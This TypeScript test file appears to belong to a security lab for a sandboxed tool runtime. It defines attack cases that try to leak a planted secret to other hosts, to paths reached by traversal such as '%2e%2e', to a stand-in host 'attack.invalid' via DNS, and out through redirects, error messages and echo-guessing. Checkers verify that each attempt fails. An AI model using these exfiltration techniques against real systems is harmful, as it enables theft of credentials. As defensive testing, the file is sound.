import type { Attack, Evidence, Targets } from '../lab/attack.ts';
import type { CanaryEvent } from '../../support/browsers/canary.ts';
import { SECRET_NAME, SHORT_SECRET_NAME } from '../lab/plant.ts';

/** The secret is bound to `GET main/secret/`; these tools may fetch more than that. */
const grant = ({ http, other }: Targets) => ({
  network: [
    { origin: http, methods: ['GET', 'POST'], pathPrefix: '/' },
    { origin: other, methods: ['GET', 'POST'], pathPrefix: '/' },
  ],
  secrets: [SECRET_NAME],
});

/** Any request may arrive, but the value only where the secret is bound (and in the browser's preflight before it). */
const without =
  (secret: string) =>
  ({ kind, method, path, headers, body }: CanaryEvent): boolean =>
    (kind === 'http' && ['GET', 'OPTIONS'].includes(method) && path.startsWith('/secret/')) ||
    !JSON.stringify({ path: decode(path), headers, body }).includes(secret);

function decode(path: string): string {
  try {
    return decodeURIComponent(path);
  } catch {
    return path;
  }
}

/** The planted secret, recognized by its mark. */
function secretOf({ marks }: Evidence): string {
  return marks.find((mark) => mark.startsWith('mark-secret-')) ?? 'missing';
}

function secretAttack(name: string, code: string, more: Partial<Attack> = {}): Attack {
  const { losses, ...rest } = more;
  return {
    name,
    group: 'secrets',
    code: `const handle = context.secrets.get(${JSON.stringify(SECRET_NAME)});\n${code}`,
    grant,
    allows: () => true,
    reports: false,
    ...rest,
    losses: (evidence) => [...elsewhere(evidence), ...(losses?.(evidence) ?? [])],
  };
}

function elsewhere(evidence: Evidence): string[] {
  const isFine = without(secretOf(evidence));
  return evidence.traffic
    .filter((event) => !isFine(event))
    .map(({ method, port, path }) => `the value arrived at ${method} port ${port}${path}`);
}

const ECHO = `
  const keep = [];
  const read = async (path, init) => {
    try {
      const response = await fetch(path, init);
      keep.push(response.status, [...response.headers], response.url, response.statusText, await response.text());
    } catch (error) {
      keep.push(String(error), error.stack);
    }
  };
`;

export const SECRET_ATTACKS: readonly Attack[] = [
  secretAttack(
    'the value arrives where it is bound to',
    `const response = await fetch(params.http + '/secret/x', { headers: { 'x-key': handle } }); return ` +
      `response.status;`,
    {
      ends: ['ok'],
      losses: (evidence) => {
        const keys = evidence.traffic
          .filter(({ kind, method }) => kind === 'http' && method === 'GET')
          .map(({ path, headers }) => `${path} ${headers['x-key'] ?? ''}`);
        const expected = [`/secret/x ${secretOf(evidence)}`];
        return JSON.stringify(keys) === JSON.stringify(expected) ? [] : [`what arrived was ${JSON.stringify(keys)}`];
      },
    },
  ),
  secretAttack(
    'the handle tells nothing',
    `return { handle, text: String(handle), json: JSON.stringify(context), all: context.secrets.names(), own: ` +
      `Object.entries(context.secrets).map(String), type: typeof handle, globals: ` +
      `Object.getOwnPropertyNames(self).map((name) => { try { return name + String(self[name]).slice(0, 300); } ` +
      `catch { return name; } }).join() };`,
    { ends: ['ok'] },
  ),
  secretAttack(
    'an endpoint that echoes: body, headers, address, in pieces, in base64',
    `${ECHO}
    const basic = btoa('user:' + handle);
    await read(params.http + '/secret/echo', { headers: { 'x-key': handle } });
    await read(params.http + '/secret/echo-pieces', { headers: { 'x-key': handle } });
    await read(params.http + '/secret/echo', { headers: { authorization: 'Bearer ' + handle } });
    await read(params.http + '/secret/echo?key=' + handle, {});
    await read(params.http + '/secret/' + handle + '/echo', {});
    await read(params.http + '/secret/echo', { headers: { authorization: 'Basic ' + basic } });
    for (const text of [...keep])
      if (typeof text === 'string')
        for (const part of text.match(/[A-Za-z0-9+/=_-]{16,}/g) ?? []) {
          try {
            keep.push(atob(part));
          } catch {}
        }
    console.log(keep); console.error(new Error(JSON.stringify(keep)));
    return keep;`,
  ),
  secretAttack(
    'the handle sent elsewhere: other host, path, method, port, body, query, redirect',
    `${ECHO}
    await read(params.other + '/secret/x', { headers: { 'x-key': handle } });
    await read(params.other + '/secret/echo', { headers: { authorization: 'Bearer ' + handle } });
    await read(params.http + '/open/echo', { headers: { 'x-key': handle } });
    await read(params.http + '/open/echo?key=' + handle);
    await read(params.http + '/open/' + handle + '/echo');
    await read(params.http + '/secret/../open/echo', { headers: { 'x-key': handle } });
    await read(params.http + '/secret/%2e%2e/open/echo', { headers: { 'x-key': handle } });
    await read(params.http + '/secretive/echo', { headers: { 'x-key': handle } });
    await read(params.http + '/secret/echo', {
      method: 'POST',
      headers: { 'x-key': handle, 'content-type': 'text/plain' },
      body: 'x',
    });
    await read(params.http + '/open/echo', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ key: handle }),
    });
    await read(params.other + '/echo', { method: 'POST', body: new URLSearchParams({ key: handle }) });
    await read(params.other + '/echo', { headers: { authorization: 'Basic ' + btoa('user:' + handle) } });
    await read(params.other + '/echo', { headers: { [handle]: 'x' } });
    await read('http://' + handle + '.attack.invalid/');
    await read(params.http + '/secret/away-' + params.token, { headers: { 'x-key': handle } });
    return keep;`,
    {
      prepare: ({ token, other }, redirect) => {
        redirect(`/secret/away-${token}`, `${other}/secret/${token}`, true);
      },
    },
  ),
  secretAttack(
    'the value in errors: a header that cannot be sent, a connection that breaks, a refused address',
    `${ECHO}
    await read('http://127.0.0.1:1/secret/' + handle, { headers: { 'x-key': handle } });
    await read(params.http + '/secret/' + handle + '/%', { headers: { 'x-key': handle + '\\u0100' } });
    await read(params.tcp + '/secret/' + handle, { headers: { 'x-key': handle } });
    await read(params.http + '/secret/slow?key=' + handle, {
      headers: { 'x-key': handle },
      signal: AbortSignal.timeout(50),
    });
    for (const trick of [
      () => structuredClone(handle),
      () => {
        throw new Error(handle);
      },
      () => handle.repeat(3),
      () => performance.getEntriesByType('resource').map((entry) => entry.name),
    ]) {
      try {
        keep.push(trick());
      } catch (error) {
        keep.push(error.stack);
      }
    }
    throw new Error(JSON.stringify(keep));`,
    { ends: ['threw', 'denied'] },
  ),
  {
    name: 'a short secret guessed by what is hidden in an echo',
    group: 'secrets',
    grant: ({ http }) => ({
      network: [{ origin: http, methods: ['GET', 'POST'], pathPrefix: '/' }],
      secrets: [SHORT_SECRET_NAME],
    }),
    allows: () => true,
    ends: ['ok'],
    reports: false,
    code: `const handle = context.secrets.get(${JSON.stringify(SHORT_SECRET_NAME)});
    const guesses = Array.from({ length: 2000 }, (_, index) => String(470000 + index));
    const rounds = [guesses.slice(0, 1000), guesses.slice(1000)];
    const found = [];
    for (const round of rounds) {
      const response = await fetch(params.http + '/secret/echo', {
        method: 'GET',
        headers: { 'x-key': handle, 'x-guess': round.join(' ') },
      });
      const said = await response.text();
      for (const guess of round) if (!said.includes(guess)) found.push(guess);
    }
    return found;`,
    losses: ({ result }) =>
      JSON.stringify(result.result ?? []) === '[]' ? [] : [`the guesses that were hidden: ${JSON.stringify(result)}`],
  },
  {
    name: 'a secret that was not granted',
    group: 'secrets',
    code: `
      for (const name of [${JSON.stringify(SECRET_NAME)}, '__proto__', 'constructor', '*', ''])
        lab.attempt(name, () => context.secrets.get(name));
      lab.attempt('names', () => context.secrets.names());
      lab.attempt(
        'guess',
        async () =>
          (await fetch(params.http + '/secret/x', { headers: { 'x-key': 'toolyard-secret-' + '0'.repeat(32) } }))
            .status === 0 && 'x',
      );`,
    grant: ({ http }) => ({ network: [{ origin: http, methods: ['GET'], pathPrefix: '/' }] }),
    allows: () => true,
    ends: ['denied'],
    losses: (evidence) => [
      ...elsewhere(evidence),
      ...(JSON.stringify(evidence.result.details ?? {}).includes(SECRET_NAME)
        ? []
        : [`the secret that was tried is not named: ${JSON.stringify(evidence.result.details)}`]),
    ],
  },
];
